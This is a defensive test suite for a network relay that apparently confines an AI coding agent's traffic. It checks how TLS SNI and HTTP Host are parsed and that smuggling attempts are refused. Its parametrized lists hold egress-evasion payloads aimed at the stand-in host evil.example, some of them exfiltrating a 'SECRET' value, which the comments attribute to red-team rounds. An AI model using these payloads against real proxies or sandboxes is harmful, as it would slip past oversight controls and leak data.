"""The name a connection's first bytes claim (TLS SNI, HTTP Host): real ClientHellos from
Python's ssl module, HTTP heads, and arbitrary bytes that must never crash the reader."""

from __future__ import annotations

import contextlib
import functools
import ssl

import h11
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cursor_agent_action.agent.contain.box.net import peek, plainhttp


@functools.cache
def _client_context() -> ssl.SSLContext:
    """One client context for every hello: making it loads the system's CA store (~60 ms, where
    a handshake's first flight takes ~1 ms), and the corruption property makes 500 hellos."""
    return ssl.create_default_context()


def client_hello(server_name: str | None) -> bytes:
    """The first flight of a real TLS client (Python's ssl with memory BIOs), fresh each time."""
    context = _client_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def test_sni_of_a_real_client_hello_also_byte_by_byte() -> None:
    hello = client_hello("api2.cursor.sh")
    assert peek.claim(hello) == peek.Claim(peek.DONE, "api2.cursor.sh")
    for cut in range(len(hello)):
        assert peek.claim(hello[:cut]).status == peek.MORE, cut


def test_a_client_hello_without_sni_claims_nothing() -> None:
    context = ssl.create_default_context()
    context.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    assert peek.claim(outgoing.read()) == peek.Claim(peek.DONE, "")


def test_a_client_hello_split_over_two_records() -> None:
    hello = client_hello("split.example")
    body = hello[5:]
    half = len(body) // 2
    two = (b"\x16\x03\x01" + half.to_bytes(2, "big") + body[:half]
           + b"\x16\x03\x01" + (len(body) - half).to_bytes(2, "big") + body[half:])
    assert peek.claim(two) == peek.Claim(peek.DONE, "split.example")


def through(data: bytes, name: str = "ok.example", port: int = 80) -> bytes | None:
    """What the far end reads when the agent sends ``data`` to ``name:port`` (its first
    bytes): None when the relay refuses it, the bytes themselves for another protocol, the
    relay's own requests for plain HTTP."""
    claimed = peek.claim(data)
    if claimed.status == peek.BAD:
        return None
    if not claimed.http:
        return data
    agent = h11.Connection(h11.SERVER)
    agent.receive_data(data)
    agent.receive_data(b"")
    far = h11.Connection(h11.CLIENT)
    out = b""
    try:
        while True:  # one request: the relay answers it and ends the connection
            event = agent.next_event()
            if isinstance(event, h11.Request):
                out += far.send(plainhttp.compose(
                    event, plainhttp.check_request(event, name, port))) or b""
            elif isinstance(event, h11.Data):
                out += far.send(h11.Data(data=event.data)) or b""
            elif isinstance(event, h11.EndOfMessage):
                return out + (far.send(h11.EndOfMessage()) or b"")
            else:  # the agent's end, or nothing more to read
                return out
    except (h11.RemoteProtocolError, plainhttp.BadRequest):
        return None


def harmless(data: bytes) -> bool:
    """An attack naming evil.example is refused, or the far end never reads that name."""
    seen = through(data)
    return seen is None or b"evil" not in seen.lower()


def test_http_the_far_end_reads_only_the_relays_request() -> None:
    seen = through(b"GET /x HTTP/1.1\r\nHost: ok.example:80\r\nConnection: keep-alive, X-B\r\n"
                   b"X-A: 1\r\nX-B: 2\r\nKeep-Alive: 5\r\nTE: trailers\r\n\r\n") or b""
    assert seen.startswith(b"GET /x HTTP/1.1\r\n")
    assert seen.endswith(b"\r\n\r\n")
    assert sorted(seen.split(b"\r\n")[1:-2]) == [
        b"connection: close", b"host: ok.example:80", b"x-a: 1"]  # hop-by-hop fields dropped
    assert through(b"GET / HTTP/1.1\r\nHost: ok.example\r\n\r\n", port=8080) == (
        b"GET / HTTP/1.1\r\nhost: ok.example\r\nconnection: close\r\n\r\n")  # as written
    assert through(b"GET / HTTP/1.0\r\n\r\n", port=8080) == (
        b"GET / HTTP/1.1\r\nhost: ok.example:8080\r\nconnection: close\r\n\r\n")
    assert through(b"GET / HTTP/1.1\r\nHost: ok.example:81\r\n\r\n") is None  # another port
    assert through(b"GET http://ok.example/x HTTP/1.1\r\nHost: ok.example\r\n\r\n") is None
    assert through(b"CONNECT ok.example:443 HTTP/1.1\r\nHost: ok.example:443\r\n\r\n") is None
    assert through(b"GET / HTTP/1.1\r\nHost: ok.example\r\nHost: ok.example\r\n\r\n") is None
    assert through(b"GET / HTTP/1.1\r\nHost: ok.example\r\nUpgrade: websocket\r\n"
                   b"Connection: Upgrade\r\n\r\n") is None
    h2c = through(b"GET / HTTP/1.1\r\nHost: ok.example\r\nConnection: Upgrade, HTTP2-Settings"
                  b"\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQ\r\n\r\n") or b""
    assert h2c.startswith(b"GET / HTTP/1.1\r\n")  # curl --http2: served as HTTP/1.1
    assert b"upgrade" not in h2c.lower()
    assert b"http2-settings" not in h2c.lower()
    # No Host (HTTP/1.0): the relay names the dialed host itself.
    assert peek.claim(b"GET / HTTP/1.1\r\nHost: a").http
    assert peek.claim(b"GE").status == peek.MORE


@pytest.mark.parametrize(("data", "name"), [
    # HTTP is known by its shape: any method, empty lines first (servers skip them)
    (b"\r\nCONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
     "evil.example"),
    (b"\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", "evil.example"),
    (b"PROPFIND http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "evil.example"),
    (b"X-ANY / HTTP/1.1\r\nHost: evil.example\r\n\r\n", "evil.example"),
])
def test_any_method_after_any_empty_lines_is_read_as_http(data: bytes, name: str) -> None:
    """Read with h11, which refuses an empty line first; the far end never reads the name."""
    assert peek.claim(data).http
    assert harmless(data)


@pytest.mark.parametrize("data", [
    b"\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n",  # a bare LF before it
    b"GET http://evil.example/\r\n\r\n",  # HTTP/0.9 to a proxy
    b"PROPFIND http://evil.example/ HTTP/1.1\x00\r\n\r\n",
    b"GET / HTTP/1.1\nHost: evil.example\n\n",  # bare LFs
    b"GET / HTTP/1.1\r\nHost : evil.example\r\n\r\n",
    b"GET / HTTP/1.1\r\nX: y\r\n folded\r\n\r\n",
    b"POST / HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
])
def test_almost_http_is_refused_or_harmless(data: bytes) -> None:
    """Refused, or harmless: h11 reads a bare LF or a folded field, and the far end then
    reads the relay's own request (the Host named, no other)."""
    assert harmless(data)


@pytest.mark.parametrize("data", [
    b"SSH-2.0-OpenSSH_9.6 Ubuntu-3\r\n",
    b"0032git-upload-pack /project.git\x00host=example.com\x00\n",
    b"\x00\x01binary\n",
    b"hello\r\n",
])
def test_other_protocols_pass_unchecked(data: bytes) -> None:
    assert peek.claim(data).status == peek.OTHER


@pytest.mark.parametrize("data", [b"hello", b"ping 0", b"GET / HTTP/1.1", b" \x85"])
def test_a_first_line_still_open_is_read_to_its_end(data: bytes) -> None:
    """A line that may start a request is held back until its end decides."""
    assert peek.claim(data) == peek.Claim(peek.MORE, need=peek.LINE)


@pytest.mark.parametrize("data", [b"\x00\x01binary", b"\x00\x00\x00\x08\x04\xd2\x16\x2f", b"*1"])
def test_a_first_byte_no_http_reader_starts_a_request_with_is_another_protocol(
        data: bytes) -> None:
    """No method starts with it and no reader skips it: its bytes go on at once (a client
    such as PostgreSQL's sends a line without an end and waits for the answer)."""
    assert peek.claim(data) == peek.Claim(peek.OTHER)


@pytest.mark.parametrize("data", [
    # where URL readers end the host (/ ? # and WHATWG's \) before a user part
    b"GET http://evil.example?@ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n",
    b"GET http://evil.example#@ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n",
    b"GET http://evil.example\\@ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n",
    b"GET http://u:p@ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n",
    b"GET http://ok%2eexample/ HTTP/1.1\r\n\r\n",
    b"CONNECT evil.example:443?@ok.example:443 HTTP/1.1\r\nHost: ok.example:443\r\n\r\n",
    b"CONNECT evil.example:443/@ok.example:443 HTTP/1.1\r\n\r\n",
    b"CONNECT evil.example:443#@ok.example:443 HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: evil.example@ok.example\r\n\r\n",
    # lines a lenient reader (Python's splits on any white space) takes for a request
    b"GET\thttp://evil.example/\tHTTP/1.1\r\nHost: evil.example\r\n\r\n",
    b" GET http://evil.example/ HTTP/1.1\r\n\r\n",
    b"CONNECT\tevil.example:443\tHTTP/1.1\r\n\r\n",
    b"GET\x0bhttp://evil.example/\x0bHTTP/1.1\r\n\r\n",
    b"CONNECT evil.example:443 HTTP/1.1\r\r\n\r\n",  # a lone CR
    b"FOO http://evil.example/\r\n\r\n",
])
def test_what_url_or_request_readers_could_read_otherwise_is_refused(data: bytes) -> None:
    assert through(data) is None


@given(st.binary(max_size=3000))
def test_any_bytes_never_crash(data: bytes) -> None:
    for start in (b"", b"\x16\x03\x01", b"GET / HTTP/1.1\r\n"):
        assert peek.claim(start + data).status in (peek.MORE, peek.DONE, peek.OTHER, peek.BAD)


@given(st.integers(0, 2000), st.binary(min_size=1, max_size=8))
def test_a_corrupted_client_hello_never_crashes(position: int, junk: bytes) -> None:
    hello = bytearray(client_hello("x.example"))
    position %= len(hello)
    hello[position : position + len(junk)] = junk
    assert peek.claim(bytes(hello)).status in (peek.MORE, peek.DONE, peek.OTHER, peek.BAD)


def test_how_many_bytes_to_wait_for_before_parsing_again() -> None:
    hello = client_hello("need.example")
    assert peek.claim(hello[:3]) == peek.Claim(peek.MORE, need=5)
    assert peek.claim(hello[:10]) == peek.Claim(peek.MORE, need=len(hello))
    assert peek.claim(b"GET / HTT").need == peek.LINE
    assert peek.claim(b"PO").need == peek.LINE


def test_a_client_hello_in_many_tiny_records_is_refused() -> None:
    body = client_hello("tiny.example")[5:]
    records = b"".join(b"\x16\x03\x01\x00\x01" + body[i : i + 1] for i in range(len(body)))
    assert peek.claim(records).status == peek.BAD


def test_a_method_in_another_case_is_read_as_a_lenient_reader_would() -> None:
    """``connect`` is CONNECT to some proxies: refused like it."""
    assert through(b"connect evil.example:443 HTTP/1.1\r\nHost: ok.example\r\n\r\n") is None
    assert through(b"FOO evil.example:443 HTTP/1.1\r\n\r\n") is None


@pytest.mark.parametrize("data", [
    # what ordinary clients send (a fourth red-team round found these refused)
    b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 13\r\n\r\n{\n  \"a\": 1\n}\n",
    b"GET /login?next=http://a.example/home HTTP/1.1\r\nHost: a.example\r\n\r\n",
])
def test_what_ordinary_clients_send_is_read_as_they_mean_it(data: bytes) -> None:
    seen = through(data, "a.example")
    assert seen is not None
    assert seen.startswith(data.split(b"\r\n", 1)[0])


def test_a_line_end_split_between_its_cr_and_lf_waits_for_the_lf() -> None:
    assert peek.claim(b"GET / HTTP/1.1\r") == peek.Claim(peek.MORE, need=peek.LINE)
    assert peek.claim(b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n").http



@pytest.mark.parametrize("data", [
    # a fifth red-team round: white space, a lone CR, then a request (Python's reader takes
    # the CR for a blank and reads the request from the line)
    b" \rGET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    b"\t\rGET http://evil.example/ HTTP/1.1\r\n\r\n",
    b"\x0b\rCONNECT evil.example:443 HTTP/1.1\r\n\r\n",
    b"\x1c\rGET http://evil.example/ HTTP/1.1\r\n\r\n",
    b"\x85\rGET http://evil.example/ HTTP/1.1\r\n\r\n",
    b" \r GET http://evil.example/ HTTP/1.1\r\n\r\n",
])
def test_white_space_and_a_lone_cr_before_a_request_is_refused(data: bytes) -> None:
    assert through(data) is None


def test_a_lone_cr_after_white_space_waits_for_the_lf_and_after_binary_does_not() -> None:
    for blank in (b" ", b"\t", b"\x1c", b"\x85", b"\xa0"):
        assert peek.claim(blank + b"\r") == peek.Claim(peek.MORE, need=peek.LINE), blank
    assert peek.claim(b"\x00\x01\r").status == peek.OTHER  # another protocol: no wait



@pytest.mark.parametrize("data", [
    # a sixth red-team round: RTSP's methods and versions, which node's reader takes for HTTP
    b"DESCRIBE /?k=SECRET\r\nHost: evil.example\r\n\r\n",
    b"GET_PARAMETER /?k=SECRET\r\nHost: evil.example\r\n\r\n",
    b"ANNOUNCE /?k=SECRET RTSP/1.0\r\nHost: evil.example\r\n\r\n",
    b"PLAY / RTSP/1.0\r\nHost: ok.example\r\nConnection: keep-alive\r\n\r\n",
    b"SETUP / ICE/1.0\r\n\r\n",
])
def test_rtsp_shapes_node_reads_as_http_are_refused(data: bytes) -> None:
    assert through(data) is None


@pytest.mark.parametrize("data", [
    # httpflow's attack list (earlier rounds): each refused by h11 or the checks, or harmless
    # (the far end reads the relay's one request, Connection: close, nothing after it)
    b"GET / HTTP/1.1\r\nHost: ok.example\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: ok.example\r\nTransfer-Encoding: gzip, chunked\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: ok.example\r\nContent-Length: -1\r\n\r\n",
    b"GET / HTTP/2.0\r\nHost: ok.example\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: ok.example\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
    b"GET //evil.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n",
    b"GET /\\evil.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 41\r\n\r\n"
    b"GET http://evil.example/ HTTP/1.1\r\n\r\n\r\n\r\n",  # a body: framed, then the end
    b"GET /\x80 HTTP/1.1\r\nHost: ok.example\r\n\r\n",
])
def test_what_a_far_end_could_read_otherwise_is_refused_or_harmless(data: bytes) -> None:
    seen = through(data)
    if seen is None:
        return
    head, _, body = seen.partition(b"\r\n\r\n")
    assert b"evil" not in head.lower()
    assert head.count(b" HTTP/1.1\r\n") == 1
    assert b"connection: close" in head
    assert not body or b"content-length: %d" % len(body) in head  # inside the relay's framing


@given(st.binary(max_size=600))
def test_the_far_end_reads_one_request_of_the_relays_whatever_follows(data: bytes) -> None:
    head = b"POST /p HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 3\r\n\r\nabc"
    seen = through(head + data)
    assert seen is not None
    assert seen.startswith(b"POST /p HTTP/1.1\r\n")
    assert seen.endswith(b"\r\n\r\nabc")
    assert seen.count(b"\r\n\r\n") == 1
